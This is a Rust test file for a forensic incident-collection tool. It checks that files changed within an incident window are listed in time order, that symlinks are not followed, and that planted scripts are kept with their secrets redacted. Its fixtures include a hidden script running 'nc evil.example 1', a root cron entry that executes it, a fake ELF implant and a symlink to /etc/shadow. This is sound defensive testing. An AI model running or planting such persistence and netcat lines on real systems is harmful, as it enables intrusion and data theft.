//! Tests of what is kept of the window of an incident.

use super::*;

fn changed_at_ms(root: &Path, path: &str) -> i64 {
    use std::os::unix::fs::MetadataExt as _;
    let of = fs::symlink_metadata(root.join(path)).unwrap();
    of.ctime() * 1000 + of.ctime_nsec() / 1_000_000
}

#[test]
fn what_changed_within_the_window_is_there_in_the_order_of_time_and_new_programs_are_kept() {
    use std::os::unix::fs::PermissionsExt as _;

    let (root, place) = (machine(), tempfile::tempdir().unwrap());
    put(root.path(), "etc/before", "was there");
    let since_ms = changed_at_ms(root.path(), "etc/before") + 1;
    // A file system's clock goes in steps of some milliseconds.
    loop {
        put(root.path(), "tmp/x/.hidden", "#!/bin/sh\nexport PASSWORD=hunter2hunter2\nnc evil.example 1\n");
        if changed_at_ms(root.path(), "tmp/x/.hidden") >= since_ms {
            break;
        }
    }
    put(root.path(), "etc/cron.d/new", "* * * * * root /tmp/x/.hidden\n");
    put(root.path(), "usr/local/bin/tool", "abc");
    put(root.path(), "home/ann/implant", "\x7fELF\0token=\u{fffd}");
    put(root.path(), "home/ann/notes", "no program");
    put(root.path(), "data/of/server/rows", "others");
    symlink("/etc/shadow", root.path().join("tmp/link")).unwrap();
    fs::set_permissions(root.path().join("usr/local/bin/tool"), fs::Permissions::from_mode(0o755)).unwrap();
    // Its content is as old as it likes.
    let old = std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(1);
    fs::File::options()
        .write(true)
        .open(root.path().join("etc/cron.d/new"))
        .unwrap()
        .set_modified(old)
        .unwrap();
    let mut scene = scene(root.path());
    scene.since_ms = Some(since_ms);
    scene.subject.watched = vec![root.path().join("data/of/server")];
    let folder = place.path().join("b");
    let found = run(scene, only(&["changes"]), PLENTY, &folder, &|| None);
    let changes = item(&folder, &found, "t1/changes.jsonl");
    let lines: Vec<serde_json::Value> =
        changes.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let at = |path: &str| lines.iter().position(|line| line["path"] == path);
    assert_eq!(at("/etc/before"), None, "{changes}");
    for path in [
        "/usr/local/bin",
        "/tmp/x/.hidden",
        "/usr/local/bin/tool",
        "/home/ann/implant",
        "/tmp/link",
        "/data/of/server/rows",
    ] {
        assert!(at(path).is_some(), "{path} is not in {changes}");
    }
    let planted = &lines[at("/etc/cron.d/new").unwrap()];
    assert_eq!((&planted["mtime_ns"], planted["uid"].is_u64()), (&1_000_000_000.into(), true));
    let tool = &lines[at("/usr/local/bin/tool").unwrap()];
    assert_eq!(tool["sha256"], Digest::of(b"abc").to_string());
    assert_eq!(lines[at("/tmp/link").unwrap()]["sha256"], serde_json::Value::Null, "no link is followed");
    assert!(lines.is_sorted_by_key(|line| line["ctime_ns"].as_i64().unwrap()), "{changes}");

    // What somebody who cleans up deletes first; binaries as they are, scripts without their secrets.
    let hidden = item(&folder, &found, "files/tmp/x/.hidden");
    assert!(hidden.contains("nc evil.example 1") && !hidden.contains("hunter2"), "{hidden}");
    assert_eq!(item(&folder, &found, "files/home/ann/implant"), "\x7fELF\0token=\u{fffd}");
    for not_kept in ["files/home/ann/notes", "files/usr/local/bin/tool"] {
        assert!(found.items.iter().all(|item| item.name != not_kept), "{not_kept}");
    }
}
